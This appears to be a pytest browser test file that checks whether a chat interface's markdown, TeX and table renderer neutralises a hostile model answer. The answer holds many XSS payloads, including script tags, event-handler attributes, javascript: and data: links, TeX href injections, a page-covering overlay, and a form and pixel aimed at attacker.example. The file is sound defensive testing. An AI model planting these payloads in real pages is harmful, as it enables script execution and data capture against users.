"""What a model writes does nothing but be read."""

import pytest

from tests.page.conftest import Live, Shown, expect
from tests.page.handwritten import answer_with

pytestmark = [pytest.mark.process, pytest.mark.asyncio(loop_scope="session"), pytest.mark.timeout(240)]

HOSTILE = r"""
<script>window.harmed = "script"</script>
<img src=x onerror="window.harmed = 'onerror'">
<svg onload="window.harmed = 'svg'"><animate onbegin="window.harmed = 'animate'"></svg>
<iframe srcdoc="<script>parent.harmed = 'iframe'</script>"></iframe>
<form action="https://attacker.example"><input name=key><button>Go</button></form>
<style>body { display: none }</style> <p style="position:fixed;inset:0">cover</p>
<a href="javascript:window.harmed = 'href'">raw link</a>

[javascript link](javascript:window.harmed='link') [data link](data:text/html,<script>1</script>)
[encoded](&#106;avascript:window.harmed='encoded') [vb](vbscript:x) [relative](v1/jobs)
<javascript:window.harmed='autolink'> ![picture](https://attacker.example/pixel.png "t")
![data](data:image/svg+xml,<svg/onload=alert(1)>)

[good link](https://example.com/page) https://example.com/bare

```html"><img src=x onerror=window.harmed='fence'>
<script>window.harmed = "code"</script>
```

$\href{javascript:window.harmed='tex'}{x}$ $\style{position:fixed}{x}$ $\class{send}{x}$
$\includegraphics{https://attacker.example/tex.png}$ $\unicode{x}$ $\text{<img src=x onerror=window.harmed='text'>}$
$\rule{9999em}{9999em}$ $\color{red;background:url(https://attacker.example/c)}{x}$

| <img src=x onerror=window.harmed='cell'> | b |
| --- | ---: |
| `<script>` | 1 |

The last line.
"""


async def test_nothing_of_a_hostile_answer_runs_loads_or_covers(live: Live, shown: Shown) -> None:
    page = shown.page
    await answer_with(live, page, HOSTILE)
    answer = page.get_by_role("article")
    text = answer.locator(".markdown")
    await expect(text).to_contain_text("The last line.")
    await expect(answer).to_have_attribute("data-state", "completed")
    assert await page.evaluate("window.harmed") is None
    assert await text.locator("script, img, svg, iframe, form, input, style, object, embed").count() == 0
    handlers = "els => els.flatMap(el => el.getAttributeNames()).filter(name => name.startsWith('on'))"
    assert await text.locator("*").evaluate_all(handlers) == []
    styled = "els => els.filter(el => el.hasAttribute('style') && !el.closest('math')).length"
    assert await text.locator("*").evaluate_all(styled) == 0
    links = await text.locator("a").evaluate_all("els => els.map(el => [el.href, el.target, el.rel])")
    assert {href for href, *_ in links} == {
        "https://example.com/page",
        "https://example.com/bare",
        # An address that is a part of the text, like any other; nothing follows it but a person.
        "https://attacker.example/",
        "https://attacker.example/pixel.png",
    }
    assert {(target, rel) for _, target, rel in links} == {("_blank", "noopener noreferrer")}
    # What they say is still there to be read.
    await expect(text).to_contain_text("<script>window.harmed")
    await expect(page.get_by_label("Prompt", exact=True)).to_be_visible()
    box = await text.bounding_box()
    assert box["width"] <= 1280


async def test_a_hostile_name_of_a_tool_or_of_a_source_is_text(live: Live, shown: Shown) -> None:
    page = shown.page
    await answer_with(live, page, "Text.", hostile_parts=True)
    answer = page.get_by_role("article")
    await expect(answer).to_have_attribute("data-state", "completed")
    await expect(answer.locator(".tool code")).to_have_text("<img src=x onerror=window.harmed=1>")
    await expect(answer.locator(".sources li")).to_have_count(2)
    assert await answer.locator(".sources a").evaluate_all("els => els.map(el => el.href)") == ["https://example.com/"]
    assert await page.evaluate("window.harmed") is None
    assert await answer.locator("img").count() == 0


@pytest.mark.parametrize("step", [1, 7])
async def test_a_text_that_grew_looks_like_one_that_came_at_once(live: Live, shown: Shown, step: int) -> None:
    page = shown.page
    module = await page.locator("script[type=module]").get_attribute("src")
    # The module that draws, as the page has it.
    grown, whole = await page.evaluate(
        """async ([address, text, step]) => {
            const { GrowingMarkdown } = await import(new URL(address, document.baseURI));
            const [growing, atOnce] = [new GrowingMarkdown(), new GrowingMarkdown()];
            for (let end = step; end < text.length + step; end += step) growing.show(text.slice(0, end));
            growing.finish();
            atOnce.show(text);
            atOnce.finish();
            return [growing.element.innerHTML, atOnce.element.innerHTML];
        }""",
        [module.replace("main.js", "growing_markdown.js"), HOSTILE + GROWING, step],
    )
    assert grown == whole


GROWING = r"""
# Heading

A paragraph that becomes a heading
---

A paragraph
with *emphasis
over lines* and a [reference] and [another][later].

- a list

  with a paragraph
- and another item
  1. nested
  2. items

[reference]: https://example.com/early

> quoted
lazily

***bold and italic*** at the beginning of a line

$$
\int_0^1 x^2 \, dx = \frac{1}{3}
$$

Costs $5 and $6, and \(a^2 + b^2\).

    indented code

| a | b |
| --- | --- |
| 1 | $x$ |
after the table

~~~python
def f(x):
    return x  # no end
~~~

[later]: https://example.com/late
"""
